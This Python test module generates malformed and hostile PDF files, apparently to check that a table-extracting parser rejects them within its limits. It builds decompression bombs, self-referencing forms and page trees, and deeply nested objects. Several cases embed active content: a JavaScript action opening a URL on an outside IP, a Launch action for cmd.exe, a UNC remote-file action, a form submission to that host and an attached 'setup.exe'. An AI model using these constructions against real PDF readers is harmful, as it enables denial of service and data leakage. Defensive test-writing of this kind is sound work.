"""PDF files: streams in streams, forms in forms, page trees in a circle, and what a file carries besides its pages."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from .build import HEADINGS, ROW, TITLE, repeated
from .cases import case

_WIDTHS = (40, 70, 90, 60, 110, 110, 90)
_FONT = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 8 0 R>>"
_DESCENDANT = (
    b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>"
    b"/FontDescriptor 7 0 R/DW 1000>>"
)
_DESCRIPTOR = (
    b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 -200 1000 800]/ItalicAngle 0/Ascent 800/Descent -200/CapHeight 700/StemV 80>>"
)
_CMAP = (
    b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
    b"%s\nendcmap end end"
)
_IDENTITY = b"\n".join(b"1 beginbfrange <%02x00> <%02xff> <%02x00> endbfrange" % (high, high, high) for high in range(0xD8))


def stream(data: bytes, more: bytes = b"", *, packed: bool = False) -> bytes:
    """A stream object."""
    if packed:
        data, more = zlib.compress(data, 9), more + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def _shown(text: str, x: float, y: float) -> bytes:
    return b"BT /F 10 Tf %d %d Td <%s> Tj ET\n" % (x, y, text.encode("utf-16-be").hex().encode())


def drawn(*rows: tuple[str, ...]) -> bytes:
    """What draws the table on a page: a title, cells of text, rules."""
    lines = (HEADINGS, *(rows or (ROW,)))
    out = [_shown(TITLE, 40, 560)]
    for i, line in enumerate(lines):
        y, x = 520 - 20 * i, 20
        for width, text in zip(_WIDTHS, line, strict=True):
            out += [_shown(text, x + 3, y + 6), b"%d %d %d 20 re S\n" % (x, y, width)]
            x += width
    return b"".join(out)


def objects(
    content: bytes | None = None, *, catalog: bytes = b"", page: bytes = b"", resources: bytes = b"", packed: bool = False
) -> list[bytes]:
    """The objects of a file with the table on its page; the content can be other bytes."""
    return [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>" % (resources, page),
        stream(drawn() if content is None else content, packed=packed),
        _FONT,
        _DESCENDANT,
        _DESCRIPTOR,
        stream(_CMAP % _IDENTITY, packed=True),
    ]


def table(
    content: bytes | None = None, *more: bytes, catalog: bytes = b"", page: bytes = b"", resources: bytes = b"", packed: bool = False
) -> bytes:
    """A file with the table, and more objects from number 9."""
    return pdf([*objects(content, catalog=catalog, page=page, resources=resources, packed=packed), *more])


def with_content(data: bytes, filters: bytes) -> bytes:
    """The table's page drawn by a stream as it is given."""
    made = objects()
    made[3] = stream(data, b"/Filter" + filters)
    return pdf(made)


def deflated(unit: bytes, megabytes: int) -> bytes:
    """Something repeated, deflated; its checksum at the end is wrong, which no reader reaches."""
    return repeated(unit, megabytes * 2**20 // len(unit), zlib_header=True)


def _forms(times: int, levels: int, innermost: bytes = b"0 0 9 9 re f ") -> bytes:
    """Forms that draw forms; each draws the next so often."""
    made = []
    for level in range(levels):
        is_last = level == levels - 1
        resources = b"" if is_last else b"/Resources<</XObject<</X %d 0 R>>>>" % (10 + level)
        made.append(stream(innermost if is_last else b"/X Do " * times, b"/Type/XObject/Subtype/Form/BBox[0 0 600 600]" + resources))
    return table(drawn() + b"/X Do " * times, *made, resources=b"/XObject<</X 9 0 R>>")


def _cut(share: float) -> Callable[[], bytes]:
    def make() -> bytes:
        data = table()
        return data[: int(len(data) * share)]

    return make


def _changed(old: bytes, new: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        data = table()
        assert old in data
        return data.replace(old, new)

    return make


def _tree(kids: bytes, *more: bytes, count: int = 1) -> bytes:
    made = objects()
    made[1] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return pdf([*made, *more])


def _action(action: bytes) -> bytes:
    return table(None, action, catalog=b"/OpenAction 9 0 R")


def _attached(name: bytes) -> bytes:
    names = b"/Names<</EmbeddedFiles<</Names[(%s) 9 0 R]>>>>" % name
    specification = b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 10 0 R>>>>" % (name, name)
    return table(None, specification, stream(b"MZ", b"/Type/EmbeddedFile"), catalog=names)


def _object_stream(content: bytes, count: int) -> bytes:
    return table(None, stream(content, b"/Type/ObjStm/N %d/First 10" % count, packed=True))


case("pdf-sound", ".pdf", table, 0, "1 records")
case("pdf-sound-packed", ".pdf", lambda: table(packed=True), 0, "1 records")
case("pdf-empty", ".pdf", b"", 3, "not a sound PDF")
case("pdf-is-text", ".pdf", "某市责任目标".encode(), 3, "not a sound PDF")
case("pdf-is-zip", ".pdf", b"PK\3\4" + bytes(100), 3, "not a sound PDF")
case("pdf-head-alone", ".pdf", b"%PDF-1.7\n", 3, "not a sound PDF")
for _share in (0.1, 0.4, 0.7):
    case(f"pdf-cut-at-{int(_share * 100)}", ".pdf", _cut(_share), 3, "")
case("pdf-cut-at-99", ".pdf", _cut(0.99), 3, "not a sound PDF")
case("pdf-no-cross-references", ".pdf", _changed(b"startxref", b"startxxxx"), 0, "1 records")
case(
    "pdf-encrypted",
    ".pdf",
    lambda: pdf(objects(), b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(%s)/U(%s)>>" % (b"o" * 32, b"u" * 32)),
    3,
    "encrypted",
)
case("pdf-encrypted-in-no-known-way", ".pdf", lambda: pdf(objects(), b"/ID[<00><00>]/Encrypt<</Filter/Evil/V 99/R 99/P -4>>"), 3, "")
case("pdf-no-text", ".pdf", lambda: table(b"0 0 100 100 re S"), 3, "holds no text")
case("pdf-no-table", ".pdf", lambda: table(_shown(TITLE, 40, 500)), 3, "no table drawn with rules")
case("pdf-deflated-gigabyte", ".pdf", lambda: with_content(deflated(b" ", 1024), b"/FlateDecode"), 3, "limit ratio=250")
case("pdf-deflated-rectangles", ".pdf", lambda: with_content(deflated(b"0 0 9 9 re f ", 20), b"/FlateDecode"), 3, "limit ratio=250")
case("pdf-turned-backwards", ".pdf", lambda: table(page=b"/Rotate -90"), 0, "1 records")
case("pdf-no-filter-in-a-list", ".pdf", lambda: with_content(drawn(), b"[]"), 0, "1 records")
case(
    "pdf-deflated-twice",
    ".pdf",
    lambda: with_content(zlib.compress(deflated(b" ", 1024), 9), b"[/FlateDecode/FlateDecode]"),
    3,
    "limit part-size=256M",
    seconds=4,
    megabytes=700,
)
case(
    "pdf-deflated-three-times",
    ".pdf",
    lambda: with_content(zlib.compress(zlib.compress(deflated(b" ", 1024), 9), 9), b"[/Fl/Fl/Fl]"),
    3,
    "limit part-size=256M",
    seconds=4,
    megabytes=700,
)
case(
    "pdf-deflated-under-a-written-out-name",
    ".pdf",
    lambda: with_content(zlib.compress(deflated(b" ", 300), 9), b"[/Fl#61teDecode/F#6cateDecode]"),
    3,
    "",
    seconds=4,
    megabytes=700,
)
case(
    "pdf-deflated-inside-hexadecimal",
    ".pdf",
    lambda: with_content(deflated(b" ", 100).hex().encode(), b"[/ASCIIHexDecode/FlateDecode]"),
    3,
    "limit ratio=250",
    seconds=3,
)
case("pdf-run-lengths", ".pdf", lambda: with_content(bytes([129, 32]) * 60_000, b"[/RunLengthDecode]"), 3, "")
case(
    "pdf-run-lengths-deflated",
    ".pdf",
    lambda: with_content(zlib.compress(bytes([129, 32]) * 500_000, 9), b"[/FlateDecode/RunLengthDecode]"),
    3,
    "limit ratio=250",
    seconds=4,
)
case(
    "pdf-attachment-bomb",
    ".pdf",
    lambda: table(
        None,
        b"<</Type/Filespec/F(document.xml)/UF(document.xml)/EF<</F 10 0 R>>>>",
        b"<</Length %d/Type/EmbeddedFile/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(deflated(b" ", 300)), deflated(b" ", 300)),
        catalog=b"/Names<</EmbeddedFiles<</Names[(document.xml) 9 0 R]>>>>",
    ),
    3,
    "limit ratio=250",
)
case("pdf-forms-10-to-the-3", ".pdf", lambda: _forms(10, 3), 0, "1 records", seconds=3)
case("pdf-forms-10-to-the-8", ".pdf", lambda: _forms(10, 8), 3, "limit pdf-content=8M")
case("pdf-forms-30-to-the-30", ".pdf", lambda: _forms(30, 30), 3, "limit pdf-content=8M")
case(
    "pdf-form-that-draws-itself",
    ".pdf",
    lambda: table(
        drawn() + b"/X Do ",
        stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 9 0 R>>>>"),
        resources=b"/XObject<</X 9 0 R>>",
    ),
    3,
    "draws itself",
)
case(
    "pdf-forms-in-a-circle",
    ".pdf",
    lambda: table(
        drawn() + b"/X Do ",
        *(
            stream(
                b"/X Do /Y Do /Z Do " * 3, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 9 0 R/Y 10 0 R/Z 11 0 R>>>>"
            )
            for _ in range(3)
        ),
        resources=b"/XObject<</X 9 0 R>>",
    ),
    3,
    "draws itself",
)
case(
    "pdf-one-content-1000-times",
    ".pdf",
    lambda: table(b"", stream(b"0 0 m " * 500_000, packed=True), page=b"/Contents[" + b"9 0 R " * 1000 + b"]"),
    3,
    "limit pdf-content=8M",
)
case("pdf-one-page-100000-times", ".pdf", lambda: _tree(b"3 0 R " * 100_000, count=100_000), 3, "limit pdf-pages=5000")
case("pdf-two-billion-pages", ".pdf", lambda: _tree(b"3 0 R", count=2_147_483_647), 0, "1 records")
case("pdf-minus-one-pages", ".pdf", lambda: _tree(b"3 0 R", count=-1), 0, "1 records")
case("pdf-page-tree-in-a-circle", ".pdf", lambda: _tree(b"3 0 R 2 0 R", count=2), 3, "")
case(
    "pdf-page-tree-3000-deep",
    ".pdf",
    lambda: _tree(b"9 0 R", *(b"<</Type/Pages/Parent 2 0 R/Count 1/Kids[%d 0 R]>>" % (10 + i) for i in range(3000))),
    3,
    "",
)
case("pdf-no-pages", ".pdf", lambda: _tree(b"", count=0), 3, "")
case("pdf-objects-over-a-flag", ".pdf", lambda: table(), 3, "limit pdf-objects=10", "pdf-objects=10")
case("pdf-characters-over-a-flag", ".pdf", lambda: table(), 3, "limit characters=20", "characters=20")
case("pdf-300000-rectangles", ".pdf", lambda: table(drawn() + b"0 0 9 9 re f " * 300_000), 0, "1 records", seconds=20)
case("pdf-a-million-rectangles", ".pdf", lambda: table(drawn() + b"0 0 9 9 re f " * 1_000_000), 3, "limit pdf-content=8M", "ratio=2000")
case(
    "pdf-a-million-characters",
    ".pdf",
    lambda: table(drawn() + b"".join(b"BT /F 1 Tf 1 1 Td <%04X%s> Tj ET " % (0x4E00 + i, b"76EE" * 399) for i in range(750))),
    3,
    "limit characters=100000",
    "characters=100000",
    seconds=4,
)
case("pdf-100000-arrays-deep", ".pdf", lambda: table(None, b"[" * 100_000 + b"]" * 100_000), 0, "")
case("pdf-100000-dictionaries-deep", ".pdf", lambda: table(None, b"<</A" * 100_000 + b">>" * 100_000), 0, "")
case("pdf-content-nested-arrays", ".pdf", lambda: table(drawn() + b"[" * 100_000), 0, "1 records")
case("pdf-content-100000-states", ".pdf", lambda: table(b"q " * 100_000 + drawn()), 0, "1 records")
case("pdf-string-without-end", ".pdf", lambda: table(drawn() + b"(" * 100_000), 0, "1 records")
case("pdf-wrong-length", ".pdf", _changed(b"<</Length ", b"<</Length 9"), 0, "1 records")
case("pdf-box-of-nothing", ".pdf", _changed(b"[0 0 600 600]", b"[0 0 0 0]"), 0, "1 records")
case("pdf-box-of-1e30", ".pdf", _changed(b"[0 0 600 600]", b"[0 0 1e30 9999999999999999999999]"), 0, "1 records")
case("pdf-turned-45-degrees", ".pdf", lambda: table(b"0.7 0.7 -0.7 0.7 0 0 cm " + drawn()), 3, "")
case("pdf-scaled-by-1e20", ".pdf", lambda: table(b"1e20 0 0 1e20 0 0 cm " + drawn()), 3, "")
case("pdf-font-not-there", ".pdf", _changed(b"/F 5 0 R", b"/F 99 0 R"), 4, "no layout knows")
case("pdf-font-is-the-page", ".pdf", _changed(b"/F 5 0 R", b"/F 3 0 R"), 4, "no layout knows")
case("pdf-font-of-itself", ".pdf", _changed(b"DescendantFonts[6 0 R]", b"DescendantFonts[5 0 R]"), 0, "1 records")
case("pdf-characters-not-told", ".pdf", lambda: table().replace(b"/ToUnicode 8 0 R", b""), 4, "no layout knows")
case(
    "pdf-map-with-a-million-ranges",
    ".pdf",
    lambda: pdf(
        [*objects()[:7], stream(_CMAP % (b"100 beginbfrange " + b"<0000> <FFFF> <0041> " * 100 + b"endbfrange\n") * 1000, packed=True)]
    ),
    4,
    "no layout knows",
    seconds=6,
)
case("pdf-objects-in-a-bomb", ".pdf", lambda: _object_stream(b" " * 100_000_000, 10), 3, "limit ratio=250")
case("pdf-objects-that-say-a-billion", ".pdf", lambda: _object_stream(b"1 0 2 9 <<>> <<>>", 1_000_000_000), 0, "1 records")
case("pdf-previous-is-itself", ".pdf", lambda: pdf(objects(), b"/Prev 15"), 0, "1 records")
case("pdf-size-of-2-billion", ".pdf", lambda: table().replace(b"/Size 9", b"/Size 2147483647"), 0, "1 records")
case("pdf-script", ".pdf", lambda: _action(b"<</S/JavaScript/JS(app.launchURL\\('http://203.0.113.1'\\))>>"), 0, "R301")
case("pdf-launch", ".pdf", lambda: _action(b"<</S/Launch/F(cmd.exe)>>"), 0, "R301")
case("pdf-other-file", ".pdf", lambda: _action(b"<</S/GoToR/F(\\\\\\\\203.0.113.1\\\\x.pdf)/D[0/Fit]>>"), 0, "R302")
case("pdf-sends-a-form", ".pdf", lambda: _action(b"<</S/SubmitForm/F(http://203.0.113.1)>>"), 0, "R302")
case("pdf-program-inside", ".pdf", lambda: _attached(b"setup.exe"), 0, "R303")
case(
    "pdf-hyperlink",
    ".pdf",
    lambda: table(None, b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.gov.cn/)>>>>", page=b"/Annots[9 0 R]"),
    0,
    "1 records, 1 parts",
)
case("pdf-noncharacter", ".pdf", lambda: table(drawn(("1", "曹临", "目\ufdd0标", *ROW[3:]))), 0, "R045")
case("pdf-bidi-override", ".pdf", lambda: table(drawn(("1", "曹临", "目\u202e标", *ROW[3:]))), 0, "")
